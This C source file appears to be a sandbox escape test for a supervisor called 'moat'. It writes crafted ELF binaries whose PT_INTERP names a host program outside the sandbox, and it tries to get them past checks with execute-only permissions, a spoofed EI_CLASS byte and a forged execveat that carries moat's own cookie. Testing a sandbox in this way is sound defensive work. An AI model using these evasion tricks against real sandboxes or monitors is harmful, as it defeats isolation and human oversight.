/* esc_exec_interp — run a host program outside the view as the ELF
 * interpreter (PT_INTERP) of a binary of our own.
 *
 * Attacks rule 7 (exec): the kernel itself opens the ELF interpreter named
 * by PT_INTERP, by host path, with no supervisor in between.  moat reads
 * PT_INTERP (libelf) beforehand and requires the virtual path to name the
 * same host file; after the exec stop it checks the interpreter the kernel
 * really mapped (the file at AT_BASE) and kills the process on a mismatch,
 * or if an interpreter appears where none was decided
 * (exec.interpreter-mismatch).  We write a tiny ELF into a writable
 * directory whose PT_INTERP is TOOL, a host program outside the view, and
 * exec it three ways:
 *   1. plain (readable, 0755): the honest case, which moat must refuse by
 *      reading PT_INTERP (ENOENT: TOOL is not in the view);
 *   2. execute-only (chmod 0111): moat cannot read the header at all — it
 *      must refuse (EACCES) rather than let the kernel decide;
 *   3. EI_CLASS flipped to ELFCLASS32, readable: the kernel's x86_64 loader
 *      ignores EI_CLASS and loads it as the 64-bit file it is, while a
 *      libelf reader sees a 32-bit file with no program headers, hence no
 *      interpreter — the exec-stop check by AT_BASE must kill it;
 *   4. plain, opened and exec'd by a forged second half of moat's exec by
 *      fd: execveat(fd, "", ..., AT_EMPTY_PATH) with moat's mark in r9,
 *      which the filter sends to moat as a notification instead of an exec
 *      stop.  No exec stop planned it: refused (EPERM, exec.not-planned),
 *      and were it let through, the exec event would kill the image no
 *      stop decided on (exec.unverified).
 * TOOL is made by this program (`esc_exec_interp --make-tool TOOL`, which
 * the runner calls natively, outside any sandbox): a position-independent
 * static ELF that writes $ESC_TOKEN to fd 1 and exits 42.  The child that
 * execs our binary has fd 1 on a pipe; the token coming back through it
 * means TOOL ran.  Natively every way runs it.
 *
 * usage: esc_exec_interp TOOL DIR        (DIR: writable, e.g. /tmp)
 *        esc_exec_interp --make-tool TOOL (staging, natively)
 */
#include "esc.h"
#include <elf.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

/* ---- the two ELF files, byte by byte ---------------------------------- */

/* TOOL's code (x86_64), followed directly by the message:
 *   lea  rsi, [rip + msg]   48 8d 35 <rel32 = 29>
 *   mov  edx, LEN           ba <imm32>
 *   mov  edi, 1             bf 01 00 00 00
 *   mov  eax, 1  (write)    b8 01 00 00 00
 *   syscall                 0f 05
 *   mov  edi, 42            bf 2a 00 00 00
 *   mov  eax, 231 (exit_group) b8 e7 00 00 00
 *   syscall                 0f 05
 * msg: (36 bytes after the start, 29 after the end of the lea) */
static size_t tool_code(unsigned char *p, const char *msg, size_t len)
{
	static const unsigned char head[] = { 0x48, 0x8d, 0x35, 29, 0, 0, 0, 0xba };
	static const unsigned char tail[] = { 0xbf, 1, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0x0f, 0x05,
					      0xbf, 42, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05 };
	size_t n = 0;
	memcpy(p + n, head, sizeof head), n += sizeof head;
	uint32_t l = (uint32_t)len;
	memcpy(p + n, &l, 4), n += 4;
	memcpy(p + n, tail, sizeof tail), n += sizeof tail;
	memcpy(p + n, msg, len), n += len;
	return n;
}

static void ehdr(Elf64_Ehdr *e, uint16_t type, uint64_t entry, uint16_t phnum)
{
	memset(e, 0, sizeof *e);
	memcpy(e->e_ident, ELFMAG, SELFMAG);
	e->e_ident[EI_CLASS] = ELFCLASS64;
	e->e_ident[EI_DATA] = ELFDATA2LSB;
	e->e_ident[EI_VERSION] = EV_CURRENT;
	e->e_type = type;
	e->e_machine = EM_X86_64;
	e->e_version = EV_CURRENT;
	e->e_entry = entry;
	e->e_phoff = sizeof *e;
	e->e_ehsize = sizeof *e;
	e->e_phentsize = sizeof(Elf64_Phdr);
	e->e_phnum = phnum;
}

static void write_file(const char *path, const void *buf, size_t len, mode_t mode)
{
	unlink(path);
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
	if (fd < 0 || write(fd, buf, len) != (ssize_t)len || fchmod(fd, mode) < 0 || close(fd) < 0)
		esc_usage("cannot write an ELF file");
}

/* TOOL: ET_DYN, one PT_LOAD (R+X) of the whole file at vaddr 0. */
static void make_tool(const char *path)
{
	unsigned char buf[512];
	const char *t = esc_token();
	char msg[128];
	int len = snprintf(msg, sizeof msg, "%s\n", t);
	Elf64_Ehdr e;
	Elf64_Phdr ph = { 0 };
	size_t off = sizeof e + sizeof ph;
	size_t end = off + tool_code(buf + off, msg, (size_t)len);
	ehdr(&e, ET_DYN, off, 1);
	ph.p_type = PT_LOAD;
	ph.p_flags = PF_R | PF_X;
	ph.p_filesz = ph.p_memsz = end;
	ph.p_align = 0x1000;
	memcpy(buf, &e, sizeof e);
	memcpy(buf + sizeof e, &ph, sizeof ph);
	write_file(path, buf, end, 0755);
}

/* Our binary: ET_EXEC at 0x400000, PT_INTERP naming TOOL, one PT_LOAD.
 * Its own code would just exit(3); the kernel starts TOOL instead. */
static void make_trojan(const char *path, const char *tool, int elfclass, mode_t mode)
{
	unsigned char buf[4096];
	Elf64_Ehdr e;
	Elf64_Phdr ph[2] = { { 0 }, { 0 } };
	const uint64_t base = 0x400000;
	size_t interp = sizeof e + sizeof ph, ilen = strlen(tool) + 1;
	size_t code = interp + ilen;
	static const unsigned char exit3[] = { 0xbf, 3, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05 };
	size_t end = code + sizeof exit3;
	if (end > sizeof buf)
		esc_usage("TOOL path too long");
	ehdr(&e, ET_EXEC, base + code, 2);
	e.e_ident[EI_CLASS] = (unsigned char)elfclass;
	ph[0].p_type = PT_INTERP;
	ph[0].p_flags = PF_R;
	ph[0].p_offset = interp;
	ph[0].p_vaddr = ph[0].p_paddr = base + interp;
	ph[0].p_filesz = ph[0].p_memsz = ilen;
	ph[0].p_align = 1;
	ph[1].p_type = PT_LOAD;
	ph[1].p_flags = PF_R | PF_X;
	ph[1].p_vaddr = ph[1].p_paddr = base;
	ph[1].p_filesz = ph[1].p_memsz = end;
	ph[1].p_align = 0x1000;
	memcpy(buf, &e, sizeof e);
	memcpy(buf + sizeof e, ph, sizeof ph);
	memcpy(buf + interp, tool, ilen);
	memcpy(buf + code, exit3, sizeof exit3);
	write_file(path, buf, end, mode);
}

/* ---- running it -------------------------------------------------------- */

/* moat's mark of its own exec by fd (syscall-table/filter.h,
 * SC_EXEC_FD_COOKIE): execveat does not read its sixth register, so
 * natively the mark changes nothing. */
#define MOAT_EXEC_FD_COOKIE 0x6d6f61742d657865ULL

/* execveat(fd, "", argv, envp, AT_EMPTY_PATH) with moat's mark in r9: the
 * second half of moat's exec by fd, forged, with no exec stop before it. */
static long forged_execveat(int fd, char *const argv[], char *const envp[])
{
	register long r10 __asm__("r10") = (long)envp;
	register long r8 __asm__("r8") = AT_EMPTY_PATH;
	register unsigned long long r9 __asm__("r9") = MOAT_EXEC_FD_COOKIE;
	long ret;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"((long)SYS_execveat), "D"((long)fd), "S"(""), "d"(argv), "r"(r10),
			   "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return ret;
}

/* fork; the child execs path with fd 1 on a pipe, fd 3 for its errno:
 * by execve, or (`forged`) by a forged exec by fd of the file opened. */
static void try_exec(const char *how, const char *path, bool forged)
{
	int out[2], err[2];
	if (pipe2(out, O_CLOEXEC) < 0 || pipe2(err, O_CLOEXEC) < 0)
		esc_usage("pipe2 failed");
	pid_t c = fork();
	if (c < 0)
		esc_usage("fork failed");
	if (c == 0) {
		if (dup2(out[1], 1) < 0 || dup2(err[1], 3) < 0)
			_exit(126);
		char *av[] = { "esc_exec_interp-trojan", NULL }, *ev[] = { NULL };
		if (forged) {
			int fd = open(path, O_RDONLY);
			long r = fd < 0 ? -errno : forged_execveat(fd, av, ev);
			dprintf(3, "%ld", -r);
			_exit(127);
		}
		execve(path, av, ev);
		dprintf(3, "%d", errno);
		_exit(127);
	}
	close(out[1]);
	close(err[1]);
	char buf[256], eb[16] = { 0 };
	ssize_t n = esc_read_all(out[0], buf, sizeof buf);
	if (read(err[0], eb, sizeof eb - 1) < 0)
		eb[0] = '\0';
	close(out[0]);
	close(err[0]);
	int st = 0;
	waitpid(c, &st, 0);
	if (n > 0 && esc_is_token(buf, (size_t)n))
		esc_won("%s: TOOL ran (its token came back; exit %d)", how, WIFEXITED(st) ? WEXITSTATUS(st) : -1);
	else if (eb[0])
		esc_held("%s: execve: %s", how, esc_errname(atoi(eb)));
	else if (WIFSIGNALED(st))
		esc_held("%s: killed by %s before it ran", how, sigabbrev_np(WTERMSIG(st)) ?: "?");
	else
		esc_held("%s: exited %d without TOOL's token", how, WEXITSTATUS(st));
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "--make-tool") == 0) {
		make_tool(argv[2]);
		return 0;
	}
	if (argc != 3 || argv[1][0] != '/' || argv[2][0] != '/')
		esc_usage("esc_exec_interp TOOL DIR | esc_exec_interp --make-tool TOOL");
	const char *tool = argv[1], *dir = argv[2];
	esc_token();
	fprintf(stderr, "# uid %d; TOOL %s\n", (int)getuid(), tool);

	static const struct {
		const char *name, *how;
		int elfclass;
		mode_t mode;
		bool forged;
	} ways[] = {
		{ "interp-plain", "PT_INTERP=TOOL, 0755", ELFCLASS64, 0755, false },
		{ "interp-xonly", "PT_INTERP=TOOL, execute-only 0111", ELFCLASS64, 0111, false },
		{ "interp-class32", "PT_INTERP=TOOL, EI_CLASS=ELFCLASS32", ELFCLASS32, 0755, false },
		{ "interp-forged", "PT_INTERP=TOOL, by a forged exec by fd", ELFCLASS64, 0755,
		  true },
	};
	for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/esc-%s.%d", dir, ways[i].name, (int)getpid());
		make_trojan(path, tool, ways[i].elfclass, ways[i].mode);
		try_exec(ways[i].how, path, ways[i].forged);
		unlink(path);
	}
	return esc_finish();
}
